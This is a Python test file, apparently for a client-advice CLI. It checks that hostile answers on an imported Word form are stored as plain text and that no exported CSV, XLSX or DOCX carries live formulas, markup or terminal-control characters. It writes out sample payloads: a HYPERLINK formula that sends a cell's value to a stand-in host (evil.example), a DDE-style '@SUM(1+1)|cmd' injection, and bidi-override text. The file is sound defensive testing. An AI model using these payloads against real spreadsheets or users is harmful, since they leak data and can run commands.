"""What comes back on a form may be meant to do harm; nothing that shows, prints or exports it does what it says."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import docx
import openpyxl
import pytest

from advisor.cli.machine import local_now
from advisor.spreadsheet import runs
from tests.cli.conftest import Advisor
from tests.tools.docx_lint import lint
from tests.tools.form_filling import Answers, in_word

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TURNED = "\u202egnihton\u2066 said\u200b"
MARKUP = "<w:p>&amp;</w:p>{{client}} [[report]] [bold]x[/bold]"
HUGE = "never " * 200_000
"""More than a megabyte."""
SAID: Answers = {
    ("NWD-1", "position"): "Adopted in part",
    ("NWD-1", "on"): local_now().date() - timedelta(days=1),
    ("NWD-1", "by"): f"{FORMULA} {TURNED}",
    ("NWD-1", "takes"): f"{FORMULA}\n{MARKUP}",
    ("NWD-1", "leaves"): f"@SUM(1+1)|cmd\n{TURNED}",
    ("NWD-1", "words"): f"{TURNED}\n{FORMULA}\n{MARKUP}\n{HUGE}",
}
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile(advisor: Advisor, tmp_path: Path) -> Advisor:
    """A practice that recorded all of it, after a yes."""
    form = tmp_path / "form.docx"
    advisor.does("export", "form", "NWD-E1", "-o", str(form))
    back = tmp_path / "back.docx"
    back.write_bytes(in_word(form.read_bytes(), SAID))
    shown = advisor.does("import", "decisions", str(back), "--yes", "--with-doubts", "all")
    assert not STEERING.search(shown.out + shown.err)
    assert "longer than can be kept" in " ".join(shown.out.split())
    return advisor


def test_it_is_recorded_as_plain_text_and_steers_no_terminal(hostile: Advisor) -> None:
    (decision,) = hostile.does("list", "decisions", "--json").json
    assert decision["takes"] == f"{FORMULA}\n{MARKUP}"
    assert decision["words"].startswith(f"gnihton said\u200b\n{FORMULA}\n{MARKUP}\nnever never")
    assert len(decision["words"]) <= 100_000
    for words in (("show", "NWD-1"), ("show", decision["id"]), ("list", "decisions"), ("list", "people")):
        answer = hostile.does(*words)
        assert not STEERING.search(answer.out + answer.err)


def test_no_spreadsheet_runs_it(hostile: Advisor, tmp_path: Path) -> None:
    listed = hostile.does("list", "decisions", "--csv").out.lstrip("\ufeff")
    hostile.does("export", "register", "NWD", "-o", str(tmp_path / "register.csv"))
    made = (tmp_path / "register.csv").read_text(encoding="utf-8-sig")
    for text in (listed, made):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert [each for each in cells if runs(each)] == []
    for name, words in (("register.xlsx", ("register", "NWD")), ("data.xlsx", ("data", "NWD"))):
        hostile.does("export", *words, "-o", str(tmp_path / name))
        book = openpyxl.load_workbook(tmp_path / name)
        kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
        assert "f" not in kinds


def test_no_document_that_follows_is_steered_by_it(hostile: Advisor, tmp_path: Path) -> None:
    for kind in ("summary", "register", "closing"):
        content = made(hostile, tmp_path, kind)
        assert lint(content) == []
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert not STEERING.search(archive.read("word/document.xml").decode())


def test_a_document_says_it_as_it_was_written(hostile: Advisor, tmp_path: Path) -> None:
    document = docx.Document(io.BytesIO(made(hostile, tmp_path, "summary")))
    cells = (cell.text for table in document.tables for row in table.rows for cell in row.cells)
    text = "\n".join([*(each.text for each in document.paragraphs), *cells])
    assert "{{client}} [[report]]" in text


def made(advisor: Advisor, folder: Path, kind: str) -> bytes:
    """A document of what is recorded now."""
    target = folder / f"{kind}.docx"
    advisor.does("export", kind, "NWD-E1", "-o", str(target))
    return target.read_bytes()
